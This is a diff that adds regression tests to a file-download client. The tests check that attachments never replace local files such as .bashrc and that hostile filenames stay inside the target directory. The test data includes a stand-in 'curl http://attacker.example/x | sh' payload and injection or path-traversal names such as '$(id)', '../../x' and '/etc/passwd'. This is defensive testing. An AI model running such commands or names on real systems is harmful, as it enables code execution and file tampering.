@@ -4,6 +4,7 @@ import json
 import os
 import re
 import signal
+import sqlite3
 import subprocess
 import time
 from pathlib import Path
@@ -13,13 +14,14 @@ import requests
 from conftest import BINARY
 from faultproxy import FaultProxy
 from helpers import auth, pattern
+from test_downloads import upload_file
 from test_uploads import MiB, attachments
 
 
-def client(server, *args, url=None, state=None, timeout=300):
+def client(server, *args, url=None, state=None, timeout=300, cwd=None):
     env = {**os.environ, "CASEFILES_TOKEN": server.customer, "CASEFILES_SERVER": url or server.url,
            "XDG_STATE_HOME": str(state)}
-    return subprocess.run([str(BINARY), *args], capture_output=True, text=True, env=env, timeout=timeout)
+    return subprocess.run([str(BINARY), *args], capture_output=True, text=True, env=env, timeout=timeout, cwd=cwd)
 
 
 def start_client(server, *args, url, state):
@@ -162,3 +164,145 @@ def test_exit_codes_say_what_kind_of_failure_it_was(server, tmp_path):
     assert closed.returncode == 4 and "case_closed" in closed.stderr
     usage = client(server, "upload", "--case", server.case, "--chunk-size", "lots", str(path), state=state)
     assert usage.returncode == 64
+
+
+# --- Downloads never replace a local file; the customer's file name is hostile input (issue #14) ---
+
+def sha(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+def downloaded_lines(output: str) -> list[tuple[str, str, int]]:
+    """(path, sha256, size) of every `downloaded PATH: sha256 HEX (N bytes…)` line."""
+    return [(m[1], m[2], int(m[3])) for m in re.finditer(r"^downloaded (.+): sha256 (\w+) \((\d+) bytes", output, re.M)]
+
+
+def tree(root: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def test_a_dotfile_attachment_does_not_replace_the_engineers_dotfile(server, tmp_path):
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_bytes(b"export PS1='engineer'\n")
+    evil = b"curl http://attacker.example/x | sh\n"
+    attachment = upload_file(server, evil, ".bashrc")
+    # The reported case: `casefiles download ID` in the engineer's home, without -o.
+    result = client(server, "download", attachment, state=tmp_path / "state", cwd=home)
+    assert result.returncode == 0, result.stderr
+    assert (home / ".bashrc").read_bytes() == b"export PS1='engineer'\n"
+    assert (home / "bashrc").read_bytes() == evil
+    assert downloaded_lines(result.stdout) == [("bashrc", sha(evil), len(evil))]
+    assert sorted(tree(home)) == [".bashrc", "bashrc"]
+
+
+def test_all_writes_two_attachments_of_one_name_as_two_files(server, tmp_path):
+    first, second = pattern(3 * MiB, seed=40), pattern(2 * MiB, seed=41)
+    upload_file(server, first, "server.log")
+    upload_file(server, second, "server.log")
+    target = tmp_path / "dl"
+    result = client(server, "download", "--case", server.case, "--all", "-o", str(target), state=tmp_path / "state")
+    assert result.returncode == 0, result.stderr
+    files = tree(target)
+    assert sorted(files) == ["server (1).log", "server.log"]
+    assert {sha(files["server.log"]), sha(files["server (1).log"])} == {sha(first), sha(second)}
+    lines = downloaded_lines(result.stdout)
+    assert sorted(lines) == sorted((str(target / name), sha(data), len(data)) for name, data in files.items())
+
+    # Run again (as after an interruption): the files already there are kept, nothing is numbered anew.
+    again = client(server, "download", "--case", server.case, "--all", "-o", str(target), state=tmp_path / "state")
+    assert again.returncode == 0, again.stderr
+    assert tree(target) == files
+    assert sorted(downloaded_lines(again.stdout)) == sorted(lines)
+    assert again.stdout.count("already there, not written again") == 2
+
+    # --force replaces stale files, but never makes one file of the two either.
+    for name in files:
+        (target / name).write_bytes(b"stale")
+    forced = client(server, "download", "--case", server.case, "--all", "--force", "-o", str(target),
+                    state=tmp_path / "state")
+    assert forced.returncode == 0, forced.stderr
+    assert tree(target) == files
+
+
+def test_an_existing_file_is_replaced_only_with_force(server, tmp_path):
+    data = pattern(1 * MiB, seed=42)
+    attachment = upload_file(server, data, "server.log")
+    target = tmp_path / "dl"
+    target.mkdir()
+    mine = b"the engineer's own notes\n"
+    (target / "copy.log").write_bytes(mine)
+    (target / "server.log").write_bytes(mine)
+    state = tmp_path / "state"
+
+    # -o FILE names one path: it is refused, not numbered, and nothing is left behind.
+    refused = client(server, "download", attachment, "-o", str(target / "copy.log"), state=state)
+    assert refused.returncode == 6, refused.stdout + refused.stderr
+    assert f"{target / 'copy.log'} exists and holds something else: pass --force" in refused.stderr
+    assert tree(target) == {"copy.log": mine, "server.log": mine}
+
+    # Into a directory, the taken name gets the next number.
+    numbered = client(server, "download", attachment, "-o", str(target), state=state)
+    assert numbered.returncode == 0, numbered.stderr
+    assert downloaded_lines(numbered.stdout) == [(str(target / "server (1).log"), sha(data), len(data))]
+    assert tree(target) == {"copy.log": mine, "server.log": mine, "server (1).log": data}
+
+    # With --force both are replaced.
+    for output, path in [(target / "copy.log", target / "copy.log"), (target, target / "server.log")]:
+        forced = client(server, "download", attachment, "--force", "-o", str(output), state=state)
+        assert forced.returncode == 0, forced.stderr
+        assert downloaded_lines(forced.stdout) == [(str(path), sha(data), len(data))]
+    assert tree(target) == {"copy.log": data, "server.log": data, "server (1).log": data}
+
+
+def test_hostile_names_land_safely_inside_the_target_directory(server, tmp_path):
+    # The server refuses / and control characters in new uploads; the client must not rely on it (an
+    # older server, a restored database), so those names are put straight into the database.
+    names = {"-rf": "rf", "$(id) [x]*.log": "_(id) _x__.log", "CON": "_CON", "report\u202egol.exe": "report_gol.exe",
+             "../../x": "_.._x", "..": "attachment", "/etc/passwd": "_etc_passwd", "evil\ndownloaded /etc/x": "evil_downloaded _etc_x"}
+    contents = {name: f"content of {name!r}".encode() for name in names}
+    ids = {}
+    for index, name in enumerate(names):
+        ids[name] = upload_file(server, contents[name], "-rf" if name == "-rf" else f"placeholder{index}")
+    with sqlite3.connect(server.storage / "casefiles.sqlite", timeout=10) as db:
+        for name, attachment in ids.items():
+            db.execute("UPDATE upload SET filename = ? WHERE id = ?", (name, attachment))
+    root = tmp_path / "a" / "b"
+    target = root / "dl"
+    result = client(server, "download", "--case", server.case, "--all", "-o", str(target), state=tmp_path / "state")
+    assert result.returncode == 0, result.stderr
+    assert tree(tmp_path / "a") == {f"b/dl/{safe}": contents[name] for name, safe in names.items()}
+    assert sorted(downloaded_lines(result.stdout)) == sorted(
+        (str(target / safe), sha(contents[name]), len(contents[name])) for name, safe in names.items())
+    # A newline in a name cannot forge a line: one "downloaded" line per file, the rest is progress.
+    lines = result.stdout.splitlines()
+    assert len([line for line in lines if line.startswith("downloaded ")]) == len(names)
+    assert all(line.startswith(("downloaded ", "downloading ")) for line in lines), lines
+
+
+def test_a_killed_download_resumes_its_part_under_the_numbered_name(server, tmp_path):
+    data = pattern(32 * MiB, seed=43)
+    attachment = upload_file(server, data, "server.log")
+    target = tmp_path / "dl"
+    target.mkdir()
+    (target / "server.log").write_bytes(b"someone else's server.log\n")
+    part = target / "server (1).log.part"
+    state = tmp_path / "state"
+    with FaultProxy(server.port, rate=8 * MiB) as slow:
+        running = start_client(server, "download", attachment, "-o", str(target), url=slow.url, state=state)
+        deadline = time.monotonic() + 30
+        while not (part.exists() and part.stat().st_size >= 4 * MiB) and time.monotonic() < deadline:
+            time.sleep(0.05)
+        running.send_signal(signal.SIGKILL)
+        running.wait(10)
+    kept = part.stat().st_size
+    assert 4 * MiB <= kept < len(data)
+
+    rerun = client(server, "download", attachment, "-o", str(target), state=state)
+    assert rerun.returncode == 0, rerun.stderr
+    assert downloaded_lines(rerun.stdout) == [(str(target / "server (1).log"), sha(data), len(data))]
+    assert tree(target) == {"server.log": b"someone else's server.log\n", "server (1).log": data}
+    log = requests.get(f"{server.url}/api/v1/access-log?attachment={attachment}", headers=auth(server.admin),
+                       timeout=10).json()["downloads"]
+    assert log[0]["range"] == f"bytes={kept}-" and log[0]["status"] == 206  # newest first: only the rest was sent
+    assert log[0]["bytesSent"] == len(data) - kept
